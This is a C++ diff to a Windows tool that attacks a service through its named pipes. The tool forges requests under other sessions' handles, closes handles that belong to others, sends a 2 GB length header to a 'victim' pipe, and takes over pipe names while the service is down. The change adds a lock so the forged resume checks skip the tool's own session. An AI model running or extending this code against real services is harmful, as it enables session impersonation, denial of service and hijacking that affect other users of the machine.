@@ -24,6 +24,7 @@
 
 #include <atomic>
 #include <memory>
+#include <mutex>
 #include <string>
 #include <thread>
 #include <vector>
@@ -40,18 +41,20 @@ std::wstring NotifyPipeName(DWORD pid)
     return name;
 }
 
-// One connection: writes the bytes and reads whatever answer comes within the pipe's own limits.
-void Send(const std::wstring& pipe, const std::string& bytes)
+// One connection: writes the bytes and reads whatever answer comes within the pipe's own limits;
+// the answer, 0 when none came.
+DWORD Send(const std::wstring& pipe, const std::string& bytes)
 {
     HANDLE h = CreateFileW(pipe.c_str(), GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
     if (h == INVALID_HANDLE_VALUE) {
         WaitNamedPipeW(pipe.c_str(), 50);
-        return;
+        return 0;
     }
     DWORD done = 0, ack = 0;
     if (!bytes.empty()) WriteFile(h, bytes.data(), static_cast<DWORD>(bytes.size()), &done, NULL);
-    if (bytes.size() >= sizeof(DataHdr)) ReadFile(h, &ack, sizeof(ack), &done, NULL);
+    if (bytes.size() >= sizeof(DataHdr) && !ReadFile(h, &ack, sizeof(ack), &done, NULL)) ack = 0;
     CloseHandle(h);
+    return ack;
 }
 
 std::string Frame(DWORD code, DWORD announced, const std::string& data)
@@ -63,6 +66,18 @@ std::string Frame(DWORD code, DWORD announced, const std::string& data)
 std::string Wide(const std::wstring& text)
 {
     return std::string(reinterpret_cast<const char*>(text.c_str()), (text.size() + 1) * sizeof(wchar_t));
+}
+
+// The handle of this process's own session, and the lock that keeps a forgery from going out
+// while a registration may be moving that session: a resume check with its own handle is no
+// forgery, and the service rightly takes it.
+std::mutex g_sessionLock;
+DWORD g_ownHandle = 0;
+
+void RegisterOwn(const std::wstring& ctrl, const std::wstring& own)
+{
+    std::lock_guard<std::mutex> guard(g_sessionLock);
+    g_ownHandle = Send(ctrl, Frame(PIPEREQUEST_CONNECT, static_cast<DWORD>(Wide(own).size()), Wide(own)));
 }
 
 void HoldLocksOf(const std::wstring& pipe, std::vector<std::unique_ptr<CGlobalLock>>* held)
@@ -83,7 +98,7 @@ void Round(const std::wstring& ctrl, const std::wstring& victim, const std::wstr
     Send(ctrl, Frame(PIPEREQUEST_CLOSE, 4, std::string("\x01\x00\x00\x00", 4)));  // someone else's handle
     Send(victim, Frame(0, 4, std::string(reinterpret_cast<const char*>(&forged), 4)));  // forged sender
     Send(victim, Frame(0, 0x7FFFFFF0, ""));                                    // 2 GB to the victim
-    Send(ctrl, Frame(PIPEREQUEST_CONNECT, static_cast<DWORD>(Wide(own).size()), Wide(own)));  // again
+    RegisterOwn(ctrl, own);                                                    // again
 }
 
 // Takes names the service needs, as any user could while it is down, and holds them until stopped.
@@ -122,9 +137,8 @@ std::atomic<long> g_registrations{0}, g_silent{0}, g_slow{0};
 // send its state to every application.
 void RegisterLoop(const std::wstring& ctrl, const std::wstring& own)
 {
-    const std::string frame = Frame(PIPEREQUEST_CONNECT, static_cast<DWORD>(Wide(own).size()), Wide(own));
     while (!g_stop) {
-        Send(ctrl, frame);
+        RegisterOwn(ctrl, own);
         ++g_registrations;
     }
 }
@@ -172,7 +186,12 @@ void ForgeResumeChecks(const std::wstring& data)
     const DWORD request = REQUEST_RESUME_CHECK;
     const std::string body(reinterpret_cast<const char*>(&request), sizeof(request));
     while (!g_stop) {
-        for (DWORD handle = 1; handle <= 5; ++handle) Send(data, Frame(handle, 4, body));
+        {
+            std::lock_guard<std::mutex> guard(g_sessionLock);
+            for (DWORD handle = 1; handle <= 5; ++handle) {
+                if (handle != g_ownHandle) Send(data, Frame(handle, 4, body));
+            }
+        }
         Sleep(10);
     }
 }
